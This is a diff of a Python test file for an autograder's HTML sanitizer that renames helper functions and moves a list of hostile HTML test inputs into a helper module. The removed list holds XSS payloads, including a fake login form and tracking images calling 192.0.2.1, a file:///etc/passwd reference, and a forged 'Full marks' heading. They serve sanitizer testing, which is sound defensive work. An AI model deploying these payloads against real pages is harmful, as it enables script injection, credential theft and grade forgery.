@@ -10,18 +10,14 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from autograder.pages.sanitize import markup as sanitize
-from autograder.pages.sanitize.markup import (
-    Sanitizer,
-    own_lines,
-    picture,
-    plain_text,
-    shortened,
-    without_paths,
-)
+from autograder.pages.sanitize.markup import TEXT_TAGS
+from autograder.pages.sanitize.outputs import Sanitizer
+from autograder.pages.sanitize.pictures import picture_uri
+from autograder.pages.sanitize.text import coloured, own_lines, plain_text, shortened, without_paths
+from tests.helpers.hostile import HOSTILE_HTML
 
 SAFE_TAGS = {
-    *sanitize._TEXT_TAGS,
+    *TEXT_TAGS,
     *("pre", "div", "p", "ol", "li", "code", "strong", "img", "h4", "h5", "h6"),
 }
 
@@ -45,37 +41,6 @@ JPEG = base64.b64encode(
 ).decode()
 
 KEYS = ["output_type", "text", "data", "image/png", "text/html", "traceback", "ename"]
-
-HOSTILE_HTML = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=' java\tscript:alert(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<style>@import 'http://192.0.2.1/x';body{display:none}</style>",
-    "<div style='position:fixed;inset:0;background:url(http://192.0.2.1)'>x</div>",
-    "<form action=http://192.0.2.1><input name=password><button>log in</button></form>",
-    "<meta http-equiv=refresh content='0;url=http://192.0.2.1'>",
-    "<base href=http://192.0.2.1>",
-    "<link rel=stylesheet href=http://192.0.2.1>",
-    "<object data=x></object><embed src=x>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<template><script>alert(1)</script></template>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
-    "</div></section></main><h1 id=q1 class=card>Full marks</h1>",
-    "<img src='http://192.0.2.1/seen.png'><img src='//192.0.2.1/x'><img src='file:///etc/passwd'>",
-    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
-    "<video src=x autoplay></video><audio src=x autoplay></audio>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x /><use href='http://192.0.2.1/x#y'/></svg>",
-    "<svg><style>*{fill:url(http://192.0.2.1)}</style><image href='http://192.0.2.1'/></svg>",
-]
 
 
 class Reader(HTMLParser):
@@ -226,9 +191,9 @@ def test_a_syntax_error_names_its_line_and_no_file() -> None:
 
 
 def test_only_pictures_that_are_what_they_claim_are_shown() -> None:
-    assert picture("image/png", PNG) == f"data:image/png;base64,{PNG}"
-    assert picture("image/png", [PNG[:8] + "\n", PNG[8:]]) == f"data:image/png;base64,{PNG}"
-    assert picture("image/jpeg", JPEG).startswith("data:image/jpeg")
+    assert picture_uri("image/png", PNG) == f"data:image/png;base64,{PNG}"
+    assert picture_uri("image/png", [PNG[:8] + "\n", PNG[8:]]) == f"data:image/png;base64,{PNG}"
+    assert picture_uri("image/jpeg", JPEG).startswith("data:image/jpeg")
     huge = base64.b64encode(png_bytes(100_000, 100_000)).decode()
     script = base64.b64encode(b"<script>").decode()
     for mime, data in [
@@ -236,7 +201,7 @@ def test_only_pictures_that_are_what_they_claim_are_shown() -> None:
         ("image/gif", PNG), ("image/svg+xml", PNG), ("image/png", huge),
         ("image/png", PNG[:20]), ("image/jpeg", "/9j/"),
     ]:  # fmt: skip
-        assert picture(mime, data) == ""
+        assert picture_uri(mime, data) == ""
 
 
 def test_a_widget_and_a_script_become_a_note_and_their_text_is_preferred() -> None:
@@ -282,6 +247,6 @@ def test_a_page_has_a_budget() -> None:
 
 
 def test_code_is_escaped_and_coloured() -> None:
-    shown = sanitize.code("def f(x):\n    return '</code><script>alert(1)</script>'  # <b>")
+    shown = coloured("def f(x):\n    return '</code><script>alert(1)</script>'  # <b>")
     assert "<script" not in shown and "<b>" not in shown and '<span class="nf">f</span>' in shown
-    assert "left out" in sanitize.code("x = 1\n" * 50_000)
+    assert "left out" in coloured("x = 1\n" * 50_000)
